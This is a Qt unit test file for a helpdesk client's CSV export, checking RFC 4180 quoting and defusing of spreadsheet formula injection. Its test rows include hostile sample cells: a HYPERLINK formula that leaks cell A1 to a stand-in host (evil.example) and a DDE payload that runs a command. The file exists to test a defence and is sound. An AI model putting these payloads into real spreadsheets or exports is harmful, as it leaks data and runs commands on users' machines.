// SPDX-License-Identifier: GPL-3.0-or-later
// CSV export of reports (issue 15): quoting by RFC 4180 and no formula injection. A text cell
// that begins with =, +, -, @, a tab or a carriage return gets a leading apostrophe, so a
// spreadsheet shows it instead of running it; numbers stay numbers.
#include "csvexport.h"

#include <QTest>

using namespace helpdesk::client;

class TestCsvExport : public QObject
{
    Q_OBJECT

private slots:
    void hostileCells_data();
    void hostileCells();
    void numbersStayNumbers();
    void wholeFile();
};

void TestCsvExport::hostileCells_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("cell");
    QTest::newRow("plain") << QStringLiteral("Acme Corp") << QStringLiteral("Acme Corp");
    QTest::newRow("empty") << QString() << QString();
    QTest::newRow("formula") << QStringLiteral("=1+2") << QStringLiteral("'=1+2");
    QTest::newRow("hyperlink")
        << QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")
        << QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
    QTest::newRow("dde") << QStringLiteral("=cmd|' /C calc'!A0") << QStringLiteral("'=cmd|' /C calc'!A0");
    QTest::newRow("plus") << QStringLiteral("+41 22 555 0000") << QStringLiteral("'+41 22 555 0000");
    QTest::newRow("minus") << QStringLiteral("-2+3") << QStringLiteral("'-2+3");
    QTest::newRow("at") << QStringLiteral("@SUM(A1:A9)") << QStringLiteral("'@SUM(A1:A9)");
    QTest::newRow("tab") << QStringLiteral("\t=1") << QStringLiteral("\"'\t=1\"");
    QTest::newRow("carriage return") << QStringLiteral("\r=1") << QStringLiteral("\"'\r=1\"");
    QTest::newRow("equals later") << QStringLiteral("a=b") << QStringLiteral("a=b");
    QTest::newRow("comma") << QStringLiteral("Fischer, Lena") << QStringLiteral("\"Fischer, Lena\"");
    QTest::newRow("quote") << QStringLiteral("the \"best\"") << QStringLiteral("\"the \"\"best\"\"\"");
    QTest::newRow("newline") << QStringLiteral("two\nlines") << QStringLiteral("\"two\nlines\"");
    QTest::newRow("unicode") << QStringLiteral("Иван Петров") << QStringLiteral("Иван Петров");
}

void TestCsvExport::hostileCells()
{
    QFETCH(QString, text);
    QFETCH(QString, cell);
    QCOMPARE(csvCell(text), cell);
}

void TestCsvExport::numbersStayNumbers()
{
    const QByteArray csv = toCsv({ { QVariant(-3.5), QVariant(qint64(42)), QVariant(QStringLiteral("-3.5")) } });
    QCOMPARE(csv, QByteArray("\xEF\xBB\xBF-3.5,42,'-3.5\r\n"));
}

void TestCsvExport::wholeFile()
{
    const QByteArray csv = toCsv({ { QStringLiteral("Agent"), QStringLiteral("Handled") },
        { QStringLiteral("=EVIL()"), 2 }, {} });
    QCOMPARE(csv, QByteArray("\xEF\xBB\xBF" "Agent,Handled\r\n'=EVIL(),2\r\n\r\n"));
}

QTEST_GUILESS_MAIN(TestCsvExport)
#include "tst_csvexport.moc"
